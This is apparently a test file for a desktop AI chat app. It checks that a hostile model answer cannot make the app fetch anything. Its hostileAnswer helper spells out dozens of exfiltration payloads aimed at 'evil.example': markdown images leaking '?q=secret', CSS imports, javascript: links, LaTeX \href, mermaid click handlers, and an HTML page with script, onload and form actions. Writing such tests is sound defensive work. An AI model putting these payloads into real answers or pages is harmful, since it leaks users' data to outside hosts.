import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
import { answerNextWith, ask } from './harness/answers'
import { startTestGateway, type TestGateway } from './harness/gateway'
import { launchStudio, type Studio } from './harness/launch'
import { connectTo, until } from './harness/studio-page'

let gateway: TestGateway
let studio: Studio
let listener: Server
/** Everything that reached the server whose address the hostile answer names. */
const reached: string[] = []

beforeAll(async () => {
  listener = createServer((request, response) => {
    reached.push(request.url ?? '')
    response.end()
  })
  listener.on('connection', () => reached.push('connection'))
  await new Promise<void>((settle) => listener.listen(0, '127.0.0.1', settle))
  gateway = await startTestGateway()
  studio = await launchStudio(inject('launch'))
  await connectTo(studio.window, gateway)
  await studio.app.evaluate(({ session }) => {
    const asked: string[] = []
    Reflect.set(globalThis, 'askedByPages', asked)
    session.defaultSession.webRequest.onBeforeRequest({ urls: ['<all_urls>'] }, ({ url }, answer) => {
      const isOwn = /^(app|media|data|blob|devtools|chrome-extension):/.test(url)
      if (!isOwn) asked.push(url)
      answer({ cancel: !isOwn })
    })
  })
})

afterAll(async () => {
  await studio.close()
  await gateway.close()
  listener.close()
})

const askedByPages = (): Promise<readonly string[]> =>
  studio.app.evaluate(() => Reflect.get(globalThis, 'askedByPages') as string[])

/** Every way to make a page fetch or run something, once with a name and once with an address that really answers. */
function hostileAnswer(evil: string): string {
  const page = [
    `<!doctype html><html><head><title>x</title><link rel="stylesheet" href="${evil}/a.css"><link rel="preconnect" href="${evil}">`,
    `<link rel="dns-prefetch" href="${evil}"><meta http-equiv="refresh" content="0;url=${evil}/meta"><base href="${evil}/">`,
    `<style>@import "${evil}/b.css"; h1{background:url(${evil}/c.png)} @font-face{font-family:x;src:url(${evil}/f.woff)}</style></head>`,
    `<body background="${evil}/bg.png" onload="fetch('${evil}/onload')"><h1 style="background:url(${evil}/d.png)">A page</h1>`,
    `<img src="${evil}/e.png" srcset="${evil}/e2.png 2x" onerror="fetch('${evil}/onerror')"><script>fetch('${evil}/script')</script>`,
    `<script src="${evil}/s.js"></script><iframe src="${evil}/frame"></iframe><object data="${evil}/object"></object>`,
    `<video poster="${evil}/p.png" src="${evil}/v.mp4" autoplay></video><audio src="${evil}/a.mp3" autoplay></audio>`,
    `<svg><image href="${evil}/svg.png"/><use href="${evil}/use.svg#a"/></svg><a href="${evil}/link" ping="${evil}/ping">go</a>`,
    `<form action="${evil}/form"><button>send</button></form><embed src="${evil}/embed"></body></html>`,
  ].join('\n')
  return [
    `![](${evil}/1?q=secret)`,
    `![a][1]\n\n[1]: ${evil}/2?q=secret`,
    `<img src="${evil}/3.png"> <style>@import "${evil}/4.css"</style> <link rel=stylesheet href=${evil}/5.css>`,
    `<iframe src="${evil}/6"></iframe>\n\n<video poster="${evil}/7.png"></video>`,
    `[click](javascript:fetch('${evil}/8')) [x](data:text/html;base64,PHNjcmlwdD4=) [y](chainhub-studio://run) <${evil}/9> ${evil}/10`,
    `Formula $x^2$ and $\\href{${evil}/11}{x}$ $\\includegraphics{${evil}/12.png}$ $\\htmlStyle{background:url(${evil}/13)}{x}$`,
    `$$\n\\frac{a}{b} = \\url{${evil}/14}\n$$`,
    `A note[^1].\n\n[^1]: ![](${evil}/15.png) and $\\href{${evil}/16}{y}$`,
    `| a |\n|---|\n| ![](${evil}/17.png) |`,
    `\`\`\`mermaid\ngraph TD\n  A["Start <img src='${evil}/18.png'>"] --> B[End]\n  click A "${evil}/19"\n  click B call alert()\n\`\`\``,
    `\`\`\`html\n${page}\n\`\`\``,
  ].join('\n\n')
}

describe('a hostile answer', () => {
  it('asks for nothing, neither when it is shown nor when its diagram and page are opened', async () => {
    const { window } = studio
    const { port } = listener.address() as AddressInfo
    for (const evil of [`http://127.0.0.1:${port}`, 'https://evil.example']) {
      await answerNextWith(gateway, hostileAnswer(evil))
      const id = await ask(window, 'Show me')
      const answer = window.locator(`[data-message="${id}"]`)
      // What was typeset stands in the page: the formula that is honest, not the ones that reach out.
      await answer.locator('.katex').first().waitFor()
      await answer.getByRole('button', { name: 'Draw the diagram' }).click()
      await answer.getByRole('button', { name: /^Show the page/ }).click()
      await answer.frameLocator('iframe[title="Diagram"]').locator('svg').waitFor()
      const page = answer.frameLocator('iframe[title="Page"]')
      await page.getByRole('heading', { name: 'A page' }).waitFor()
      await page.getByText('go', { exact: true }).click()
      await page.getByRole('button', { name: 'send' }).click()
      await page.getByRole('heading', { name: 'A page' }).waitFor()
      await window.waitForTimeout(700)
    }
    expect(await askedByPages()).toEqual([])
    expect(reached).toEqual([])
  })

  it('gives its frames no way to the studio and no origin', async () => {
    const frames = studio.window.frames().filter((frame) => frame.url().startsWith('app://sandbox/'))
    expect(frames.length).toBeGreaterThan(0)
    for (const frame of frames) {
      const reach = await frame.evaluate(async () => {
        const tryIt = (work: () => unknown): string => {
          try {
            return String(work())
          } catch {
            return 'denied'
          }
        }
        return [
          tryIt(() => typeof Reflect.get(window, 'studio')),
          tryIt(() => typeof Reflect.get(parent, 'studio')),
          tryIt(() => localStorage.length),
          self.origin,
          await fetch('app://studio/index.html').then(
            () => 'reached',
            () => 'denied',
          ),
        ]
      })
      expect(reach).toEqual(['undefined', 'denied', 'denied', 'null', 'denied'])
    }
  })
})

describe('a very long answer', () => {
  it('is all there while only what is near the view is in the page', async () => {
    const { window } = studio
    const text = Array.from({ length: 25_000 }, (_, index) => `Paragraph **${index}**.\n\n- one\n- two\n`).join('\n')
    await answerNextWith(gateway, `${text}\n\nThe very end.`)
    const id = await ask(window, 'Write a book')
    const answer = window.locator(`[data-message="${id}"]`)
    await answer.getByText('The very end.').waitFor()
    const heightPx = async (): Promise<number> => (await answer.boundingBox())?.height ?? 0
    await until('the whole answer', heightPx, (height) => height > 1_000_000)
    expect(await window.evaluate(() => document.querySelectorAll('*').length)).toBeLessThan(8_000)
    await window.getByRole('textbox', { name: 'Message' }).fill('still usable')
  })
})
